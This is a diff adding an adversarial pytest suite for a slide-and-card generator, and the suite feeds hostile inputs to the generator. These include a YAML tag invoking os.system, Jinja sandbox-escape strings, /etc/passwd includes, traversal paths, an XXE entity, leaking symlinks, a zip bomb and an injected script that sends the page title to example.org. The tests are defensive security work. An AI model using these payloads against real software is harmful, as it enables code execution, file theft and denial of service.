@@ -1,0 +1,421 @@
+"""A hurried facilitator and a hostile shared layout (issue 5): odd YAML, wrong types, control characters,
+hostile templates, symlinks, broken masters, unusable output folders, interrupted commits.
+
+Tests marked ``xfail(strict=True)`` record bugs found by the adversarial review: they fail today and
+start passing (turning the strict xfail red) once the bug is fixed; then drop the marker."""
+
+from __future__ import annotations
+
+import io
+import os
+import signal
+import subprocess
+import sys
+import time
+import zipfile
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+
+from deckgen.cli import main
+from deckgen.errors import DeckgenError, InvalidInput
+from deckgen.layout import load_layout
+
+ONE_MODEL = 'language: en\ntitle: T\nmodels: [{name: A, strengths: [s]}]\n'
+
+
+@pytest.fixture
+def run(tmp_path, monkeypatch):
+    """The CLI in this process, in an empty working folder; returns click's Result."""
+    work = tmp_path / "cwd"
+    work.mkdir()
+    monkeypatch.chdir(work)
+
+    def invoke(*args):
+        return CliRunner().invoke(main, [str(a) for a in args])
+
+    return invoke
+
+
+def clean_failure(result) -> bool:
+    """Exit status 1 with a message, and no exception escaping to a traceback."""
+    escaped = result.exception is not None and not isinstance(result.exception, SystemExit)
+    return result.exit_code == 1 and not escaped and result.output.strip() != ""
+
+
+def no_traceback(result) -> bool:
+    return result.exception is None or isinstance(result.exception, SystemExit)
+
+
+def content(folder: Path, text: str, name: str = "w.yaml") -> Path:
+    folder.mkdir(parents=True, exist_ok=True)
+    path = folder / name
+    path.write_text(text, encoding="utf-8", errors="surrogatepass")
+    return path
+
+
+def layout_folder(root: Path, name: str, yaml: str = "extends: default\n", templates: dict | None = None) -> Path:
+    folder = root / name
+    (folder / "templates").mkdir(parents=True)
+    (folder / "layout.yaml").write_text(yaml, encoding="utf-8")
+    for file_name, text in (templates or {}).items():
+        (folder / "templates" / file_name).write_text(text, encoding="utf-8")
+    return folder
+
+
+def all_output_text(folder: Path) -> bytes:
+    return b"".join(path.read_bytes() for path in folder.rglob("*") if path.is_file())
+
+
+# --- odd YAML: passes today ----------------------------------------------------------------------------
+
+
+def test_python_tags_are_never_constructed(run, tmp_path):
+    marker = tmp_path / "pwned"
+    path = content(tmp_path / "c", f"title: !!python/object/apply:os.system ['touch {marker}']\n"
+                                   "models: [{name: A}]\n")
+    result = run("check", path)
+    assert clean_failure(result) and f"{path}:1:8: title:" in result.output
+    assert not marker.exists()
+
+
+@pytest.mark.parametrize("text, where", [
+    ("title: T\n1: x\nmodels: [{name: A}]\n", ":2:1: 1: unknown key"),
+    ("title: T\ntrue: x\nmodels: [{name: A}]\n", ":2:1: True: unknown key"),
+    ("title: T\n~: x\nmodels: [{name: A}]\n", ":2:1:"),
+    ("title: T\n? [a, b]\n: x\nmodels: [{name: A}]\n", ":2:3:"),
+    ("title: T\nmodels: [{name: A, name: B}]\n", ":2:"),
+    ("title: T\nmodels: " + "[" * 3000 + "]" * 3000 + "\n", ": YAML syntax error"),
+    ("title: T\nmodels: [{name: A}]\n---\ntitle: U\n", ":3:1: YAML syntax error"),
+    ("title: !!binary aGVsbG8=\nmodels: [{name: A}]\n", ":1:8: title: expected text"),
+    ("title: T\nmodels: [{name: A, strengths: [~, '  ']}]\n", ":2:32: models[0].strengths[0]"),
+])
+def test_odd_yaml_is_one_located_message(run, tmp_path, text, where):
+    path = content(tmp_path / "c", text)
+    result = run("check", path)
+    assert clean_failure(result), result.output
+    assert result.output.startswith(f"{path}{where}"), result.output
+
+
+def test_anchors_merge_keys_crlf_and_bom_load(tmp_path):
+    from deckgen.content import load_workshop
+
+    text = ("\ufefftitle: &t Hello\r\nsubtitle: *t\r\nmodels:\r\n  - &m {name: A, strengths: [s]}\r\n"
+            "  - <<: *m\r\n    name: B\r\n")
+    workshop = load_workshop(content(tmp_path, text))
+    assert workshop.title.plain == "Hello" and workshop.subtitle.plain == "Hello"
+    assert [m.name.plain for m in workshop.models] == ["A", "B"]
+    assert workshop.models[1].strengths[0].plain == "s"
+
+
+def test_braces_in_labels_are_never_formatted():
+    from deckgen.labels import resolve_labels
+
+    labels = resolve_labels("en", {"overview": "{count} models {0} {x} {count.__class__}"})
+    assert labels.overview_heading(3) == "3 models {0} {x} {count.__class__}"
+
+
+def test_control_characters_in_bullets_and_notes_give_valid_xml(run, tmp_path):
+    from lxml import etree
+
+    path = content(tmp_path / "c", 'title: T\nmodels:\n  - name: "a\\x1bb"\n'
+                                   '    strengths: ["\\x1b[31mred", "nul\\0here", "rlo\\u202eend"]\n'
+                                   '    notes: "bell\\a esc\\x1b"\n')
+    out = tmp_path / "out"
+    result = run("build", path, "--only", "slides", "-o", out)
+    assert result.exit_code == 0, result.output
+    with zipfile.ZipFile(out / "w.pptx") as deck:
+        for name in deck.namelist():
+            if name.endswith((".xml", ".rels")):
+                etree.fromstring(deck.read(name))  # raises on invalid XML
+
+
+# --- odd content: bugs ---------------------------------------------------------------------------------
+
+
+@pytest.mark.xfail(strict=True, reason="python-pptx refuses control characters in core properties: "
+                   "slides/reproducible.set_properties writes the raw title; check says OK, build tracebacks")
+@pytest.mark.parametrize("title", ["a\\x1bb", "a\\0b", "a\\ufffeb"])
+def test_control_characters_in_the_title_are_no_traceback(run, tmp_path, title):
+    path = content(tmp_path / "c", f'title: "{title}"\nmodels: [{{name: A, strengths: [s]}}]\n')
+    result = run("build", path, "--only", "slides", "-o", tmp_path / "out")
+    assert no_traceback(result) and result.exit_code in (0, 1), repr(result.exception)
+
+
+@pytest.mark.xfail(strict=True, reason="lone surrogates from YAML '\\ud800' escapes pass schema.Str and crash "
+                   "lxml (slides) and WeasyPrint (cards) with UnicodeEncodeError")
+def test_lone_surrogate_is_refused_or_replaced(tmp_path):
+    from deckgen.content import load_workshop
+
+    path = content(tmp_path, 'title: T\nmodels: [{name: A, strengths: ["x\\ud800y"]}]\n')
+    try:
+        workshop = load_workshop(path)
+    except InvalidInput as error:  # refused, pointing at the string
+        assert f"{path}:2:" in str(error)
+    else:  # or replaced by something every writer can encode
+        workshop.models[0].strengths[0].plain.encode("utf-8")
+
+
+@pytest.mark.xfail(strict=True, reason="the .pptx core property 'title'/'author' is limited to 255 characters "
+                   "(python-pptx ValueError): a long title that fits its slide tracebacks in set_properties")
+@pytest.mark.parametrize("key, value", [("title", "Short words here " * 17),
+                                        ("authors", [f"Author Number{i}" for i in range(30)])])
+def test_long_title_or_authors_build_or_fail_cleanly(run, tmp_path, key, value):
+    import json
+
+    text = ONE_MODEL.replace("title: T\n", f"title: T\n{key}: {json.dumps(value)}\n") if key == "authors" \
+        else ONE_MODEL.replace("title: T", f"title: {json.dumps(value.strip())}")
+    path = content(tmp_path / "c", text)
+    result = run("build", path, "--only", "slides", "-o", tmp_path / "out")
+    assert no_traceback(result) and result.exit_code in (0, 1), repr(result.exception)
+
+
+@pytest.mark.xfail(strict=True, reason="inline._spans recurses once per '**' pair: a bullet of ~4000 '*' "
+                   "raises RecursionError (traceback on check and build)")
+def test_a_run_of_asterisks_is_no_recursion_error():
+    from deckgen.inline import parse_inline
+
+    assert parse_inline("*" * 5000) is not None
+
+
+@pytest.mark.xfail(strict=True, reason="ruamel's ReaderError (a raw control character in the file) has no "
+                   "problem_mark: yamlsource reports no line/column and appends 'in \"<unicode string>\", position N'")
+def test_a_raw_control_character_in_the_file_is_located(tmp_path):
+    from deckgen.yamlsource import read_yaml
+
+    path = tmp_path / "w.yaml"
+    path.write_bytes(b"title: T\nsubtitle: a\x1bb\nmodels: [{name: A}]\n")
+    with pytest.raises(InvalidInput) as caught:
+        read_yaml(path)
+    message = str(caught.value)
+    assert message.startswith(f"{path}:2:12:") and "\n" not in message, message
+
+
+@pytest.mark.xfail(strict=True, reason="a content file's unknown 'layout' is told without the content file, "
+                   "line and column (build.load -> layout.find_layout raises a bare DeckgenError)")
+def test_unknown_layout_in_the_content_names_file_and_line(run, tmp_path):
+    path = content(tmp_path / "c", "title: T\nlayout: nosuch\nmodels: [{name: A}]\n")
+    result = run("check", path)
+    assert clean_failure(result) and result.output.startswith(f"{path}:2:9:"), result.output
+
+
+@pytest.mark.xfail(strict=True, reason="a 4.5 MB content file of many models is parsed for ~20 s by the pure-Python "
+                   "round-trip parser, then refused as 'a YAML alias bomb?': not refused quickly, wrong reason")
+def test_a_big_file_of_many_models_is_refused_quickly(tmp_path):
+    model = "  - name: Model {0}\n    strengths: [Contact with others {0}, Builds confidence]\n"
+    lines = ["title: Big", "models:"] + [model.format(i) for i in range(33_000)]
+    path = content(tmp_path, "\n".join(lines))
+    assert path.stat().st_size < 5 * 1024 * 1024  # under MAX_FILE_BYTES, so it is read
+    started = time.monotonic()
+    try:
+        result = subprocess.run([sys.executable, "-m", "deckgen", "check", str(path)], capture_output=True,
+                                text=True, timeout=4)
+    except subprocess.TimeoutExpired:
+        pytest.fail(f"not refused within 4 s (gave up after {time.monotonic() - started:.1f} s)")
+    assert result.returncode == 1 and "alias bomb" not in result.stderr, result.stderr
+
+
+# --- hostile layouts: passes today ---------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("template", [
+    "{{ cycler.__init__.__globals__.os }}",
+    "{{ '{0.__class__}'.format(1) }}",
+    "{{ lipsum|attr('__globals__') }}",
+    "{% include '/etc/passwd' %}",
+    "{% include '../../../../../etc/passwd' %}",
+    "{% extends '../../x' %}",
+])
+def test_hostile_template_is_one_message(run, tmp_path, template):
+    folder = layout_folder(tmp_path, "evil", templates={"card-models-front.html.j2": template})
+    path = content(tmp_path / "c", ONE_MODEL)
+    result = run("build", path, "--layout", folder, "--only", "cards", "-o", tmp_path / "out")
+    assert clean_failure(result), result.output
+    assert result.output.startswith("error: card template") and "root:" not in result.output
+
+
+def test_a_template_with_an_xml_entity_reads_no_file(run, tmp_path):
+    from pptx import Presentation
+
+    buffer = io.BytesIO()
+    Presentation().save(buffer)
+    folder = layout_folder(tmp_path, "xxe", "extends: default\nslides:\n  template: t.pptx\n")
+    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as source, \
+            zipfile.ZipFile(folder / "t.pptx", "w", zipfile.ZIP_DEFLATED) as target:
+        for name in source.namelist():
+            data = source.read(name)
+            if name == "ppt/presentation.xml":
+                data = data.replace(b"<p:presentation", b'<!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+                                                        b"<p:presentation", 1)
+            target.writestr(name, data)
+    path = content(tmp_path / "c", ONE_MODEL)
+    out = tmp_path / "out"
+    result = run("build", path, "--layout", folder, "--only", "slides", "-o", out)
+    assert no_traceback(result)
+    assert b"root:x:" not in all_output_text(out) if out.exists() else True
+
+
+def test_out_that_is_a_file_or_under_a_file(run, tmp_path):
+    path = content(tmp_path / "c", ONE_MODEL)
+    blocker = tmp_path / "afile"
+    blocker.write_text("keep")
+    assert run("build", path, "-o", blocker).exit_code == 2
+    result = run("build", path, "-o", blocker / "sub", "--only", "slides")
+    assert clean_failure(result) and "Not a directory" in result.output
+    assert blocker.read_text() == "keep"
+
+
+# --- hostile layouts: bugs -----------------------------------------------------------------------------
+
+
+@pytest.mark.xfail(strict=True, reason="templates/ files are read through Jinja's FileSystemLoader and "
+                   "render.read_stylesheet, which follow symlinks: a linked template or cards.css leaks a file "
+                   "from outside the layout into the cards and the HTML preview")
+@pytest.mark.parametrize("what", ["template file", "stylesheet", "templates folder"])
+def test_symlinks_in_templates_leading_out_are_refused(run, tmp_path, what):
+    default_css = (load_layout("default").template_dirs[-1][1] / "cards.css").read_text(encoding="utf-8")
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "secret.html.j2").write_text("OUTSIDE-SECRET-TOKEN")
+    (outside / "cards.css").write_text(default_css + "\n/* OUTSIDE-SECRET-TOKEN */\n")
+    (outside / "card-models-front.html.j2").write_text("OUTSIDE-SECRET-TOKEN")
+    folder = layout_folder(tmp_path, "linked")
+    if what == "template file":
+        os.symlink(outside / "secret.html.j2", folder / "templates" / "card-models-front.html.j2")
+    elif what == "stylesheet":
+        os.symlink(outside / "cards.css", folder / "templates" / "cards.css")
+    else:
+        (folder / "templates").rmdir()
+        os.symlink(outside, folder / "templates")
+    path = content(tmp_path / "c", ONE_MODEL)
+    out = tmp_path / "out"
+    result = run("build", path, "--layout", folder, "--only", "cards", "--no-cache", "-o", out)
+    assert no_traceback(result)
+    assert result.exit_code == 1 and "OUTSIDE-SECRET-TOKEN" not in result.output, result.output
+    assert not out.exists() or b"OUTSIDE-SECRET-TOKEN" not in all_output_text(out)
+
+
+@pytest.mark.xfail(strict=True, reason="a layout's own cards.css without the default's side rules makes "
+                   "cards.fit.fit / cards.pdf.measure raise KeyError or ValueError (traceback) instead of a message")
+def test_a_replacement_stylesheet_without_the_side_rules_is_one_message(run, tmp_path):
+    folder = layout_folder(tmp_path, "plain", templates={"cards.css": "body { color: #333 }\n"})
+    path = content(tmp_path / "c", 'title: T\nmodels: [{name: A, strengths: [s]}, {name: B, strengths: [t]}]\n')
+    result = run("build", path, "--layout", folder, "--only", "cards", "--no-cache", "-o", tmp_path / "out")
+    assert no_traceback(result) and result.exit_code in (0, 1), repr(result.exception)
+
+
+@pytest.mark.xfail(strict=True, reason="a layout's templates may put <script> (and links the browser follows) "
+                   "into the HTML preview: WeasyPrint ignores scripts, so the fetcher never sees them")
+def test_a_layout_cannot_put_scripts_into_the_preview(run, tmp_path):
+    block = ('{% extends "default/card-models-front.html.j2" %}{% block band %}'
+             '<script>fetch("https://example.org/?" + document.title)</script>{% endblock %}')
+    folder = layout_folder(tmp_path, "scripted", templates={"card-models-front.html.j2": block})
+    path = content(tmp_path / "c", ONE_MODEL)
+    out = tmp_path / "out"
+    result = run("build", path, "--layout", folder, "--only", "cards", "--no-cache", "-o", out)
+    assert no_traceback(result)
+    assert result.exit_code == 1 or "<script" not in (out / "w-cards.html").read_text(encoding="utf-8")
+
+
+@pytest.mark.xfail(strict=True, reason="'extends' takes any path, resolved from the working folder "
+                   "(layout.find_layout): an absolute path to a layout elsewhere on disk is followed, not refused")
+def test_extends_with_an_absolute_path_is_refused(tmp_path):
+    elsewhere = layout_folder(tmp_path / "elsewhere", "other")
+    child = layout_folder(tmp_path / "org", "child", f"extends: {elsewhere}\n")
+    with pytest.raises(DeckgenError) as caught:
+        load_layout(str(child))
+    assert "extends" in str(caught.value)
+
+
+@pytest.mark.xfail(strict=True, reason="slides.template.choose_layouts indexes all_layouts[0]: a master "
+                   "without slide layouts raises IndexError (traceback) instead of a message")
+def test_a_template_without_slide_layouts_is_one_message(run, tmp_path):
+    from pptx import Presentation
+    from pptx.oxml.ns import qn
+
+    prs = Presentation()
+    master = prs.slide_masters[0]
+    id_list = master._element.find(qn("p:sldLayoutIdLst"))
+    for entry in list(id_list):
+        master.part.drop_rel(entry.get(qn("r:id")))
+        id_list.remove(entry)
+    folder = layout_folder(tmp_path, "bare", "extends: default\nslides:\n  template: t.pptx\n")
+    prs.save(folder / "t.pptx")
+    path = content(tmp_path / "c", ONE_MODEL)
+    result = run("build", path, "--layout", folder, "--only", "slides", "-o", tmp_path / "out")
+    assert clean_failure(result), repr(result.exception)
+
+
+@pytest.mark.xfail(strict=True, reason="only the template's size on disk is checked (layout._read_layer): "
+                   "a 250 KB .pptx that inflates to 256 MB is accepted (a 1.5 MB one took 4.6 GB RSS and 27 s)")
+def test_a_zip_bomb_template_is_refused_when_the_layout_loads(tmp_path):
+    from pptx import Presentation
+
+    buffer = io.BytesIO()
+    Presentation().save(buffer)
+    folder = layout_folder(tmp_path, "bomb", "extends: default\nslides:\n  template: t.pptx\n")
+    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as source, \
+            zipfile.ZipFile(folder / "t.pptx", "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target:
+        for name in source.namelist():
+            target.writestr(name, source.read(name))
+        with target.open("ppt/media/padding.xml", "w", force_zip64=True) as padding:
+            chunk = b" " * (16 << 20)
+            for _ in range(16):
+                padding.write(chunk)
+    assert (folder / "t.pptx").stat().st_size < 1024 * 1024
+    with pytest.raises(DeckgenError):
+        load_layout(str(folder))
+
+
+# --- output folders and interruptions ------------------------------------------------------------------
+
+
+@pytest.mark.xfail(strict=True, reason="cli.calibrate catches only DeckgenError: an --out whose folder cannot be "
+                   "made or written (under a file, read-only) is an OSError traceback")
+def test_calibrate_into_an_unusable_folder_is_one_message(run, tmp_path):
+    blocker = tmp_path / "afile"
+    blocker.write_text("keep")
+    result = run("calibrate", "-o", blocker / "cal.pdf")
+    assert clean_failure(result), repr(result.exception)
+
+
+@pytest.mark.xfail(strict=True, reason="outputs.OutputSet.commit moves files one by one: Ctrl-C between two "
+                   "os.replace calls leaves a new .pptx beside old PDFs (signals are not held during the moves)")
+def test_ctrl_c_during_the_moves_leaves_no_mixed_outputs(tmp_path, monkeypatch):
+    import deckgen.outputs as outputs_module
+    from deckgen.outputs import output_set
+
+    out = tmp_path / "out"
+    names = ("w.pptx", "w-cards.pdf", "w-cards.html")
+    with output_set(out) as outputs:
+        for name in names:
+            outputs.temp_for(out / name).write_text("old")
+        outputs.commit()
+    real_replace, moves = os.replace, []
+
+    def replace(source, target):
+        moves.append(target)
+        if len(moves) == 2:
+            os.kill(os.getpid(), signal.SIGINT)  # Ctrl-C arrives between the first and the second move
+        real_replace(source, target)
+
+    def interrupt(signum, frame):
+        raise KeyboardInterrupt
+
+    previous = signal.signal(signal.SIGINT, interrupt)
+    try:
+        monkeypatch.setattr(outputs_module.os, "replace", replace)
+        try:
+            with output_set(out) as outputs:
+                for name in names:
+                    outputs.temp_for(out / name).write_text("new")
+                outputs.commit()
+        except KeyboardInterrupt:
+            pass
+    finally:
+        monkeypatch.undo()
+        signal.signal(signal.SIGINT, previous)
+    states = {(out / name).read_text() for name in names}
+    assert len(states) == 1, {name: (out / name).read_text() for name in names}
+    assert not [path.name for path in out.iterdir() if outputs_module.TEMP_MARK in path.name]
